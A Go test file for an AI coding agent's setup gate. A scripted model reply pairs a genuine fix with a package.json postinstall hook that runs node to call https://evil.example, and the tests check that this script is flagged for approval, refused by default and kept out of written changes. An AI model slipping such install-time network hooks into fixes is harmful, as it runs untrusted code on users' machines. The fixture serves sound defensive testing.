package agent

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// postinstallReply is the honest fix plus a postinstall script: before
// the setup gate it was verified (the tests pass) and written, and the
// next `fixpoint test` ran the script in the networked setup container.
var postinstallReply = nodeFix + "\n" + replaceBlock("package.json",
	"    \"test\": \"node --test\"\n", "    \"test\": \"node --test\",\n    \"postinstall\": \"node -e \\\"require('https').get('https://evil.example')\\\"\"\n")

// TestSetupGate drives the real loop with a scripted model whose reply
// adds a postinstall script along with the fix.
func TestSetupGate(t *testing.T) {
	skipShort(t)
	tests := []struct {
		name     string
		replies  []string
		approve  func(ctx context.Context, a Approval) (bool, error) // nil: no way to ask (non-interactive)
		verified bool
		changed  []string
	}{
		{name: "refused, then the plain fix", replies: []string{postinstallReply, nodeFix},
			approve:  func(context.Context, Approval) (bool, error) { return false, nil },
			verified: true, changed: []string{"src/clamp.js"}},
		{name: "nobody to ask", replies: []string{postinstallReply, nodeFix}, verified: true, changed: []string{"src/clamp.js"}},
		{name: "only the reply with the script", replies: []string{postinstallReply}},
		// The control: the gate, nothing else, kept the script out.
		{name: "allowed", replies: []string{postinstallReply},
			approve:  func(context.Context, Approval) (bool, error) { return true, nil },
			verified: true, changed: []string{"package.json", "src/clamp.js"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			root := copyTree(t, "testdata/node-bug")
			pkgBefore, _ := os.ReadFile(filepath.Join(root, "package.json"))
			m := &scripted{rules: []rule{{contains: markCode, replies: tt.replies}}}
			var asked []Approval
			cfg := testConfig(t)
			cfg.Agent.MaxIterations = len(tt.replies)
			cfg.Agent.MaxMalformed = len(tt.replies)
			opts := &Options{Model: m, Backend: testBackend(t)}
			if tt.approve != nil {
				opts.Approve = func(ctx context.Context, a Approval) (bool, error) {
					asked = append(asked, a)
					return tt.approve(ctx, a)
				}
			}
			res, err := New(cfg, opts).Run(t.Context(), Request{Mode: ModeFix, Root: root}, nil)
			if err != nil {
				t.Fatal(err)
			}
			if res.Verified != tt.verified {
				t.Fatalf("Verified = %v (%s), want %v", res.Verified, res.StopReason, tt.verified)
			}
			var changed []string
			for _, c := range res.Changes {
				changed = append(changed, c.Path)
			}
			if tt.verified && !slices.Equal(changed, tt.changed) {
				t.Errorf("changes = %v, want %v", changed, tt.changed)
			}
			if !tt.verified {
				if len(res.Changes) != 0 {
					t.Errorf("an unverified run has changes to write: %v", changed)
				}
			}
			if tt.approve != nil {
				if len(asked) == 0 || len(asked[0].Setup) != 1 || asked[0].Setup[0].File != "package.json" || !strings.Contains(asked[0].Setup[0].What, "postinstall") {
					t.Errorf("asked %+v, want one question naming package.json's postinstall script", asked)
				}
			}
			if !slices.Contains(tt.changed, "package.json") {
				if len(m.calls) > 1 && !strings.Contains(m.calls[1], "sets the postinstall script") {
					t.Errorf("the refusal does not reach the model:\n%s", m.calls[1])
				}
				if err := WriteChanges(root, res.Changes); err != nil {
					t.Fatal(err)
				}
				if after, _ := os.ReadFile(filepath.Join(root, "package.json")); string(after) != string(pkgBefore) {
					t.Errorf("package.json was written:\n%s", after)
				}
			}
		})
	}
}
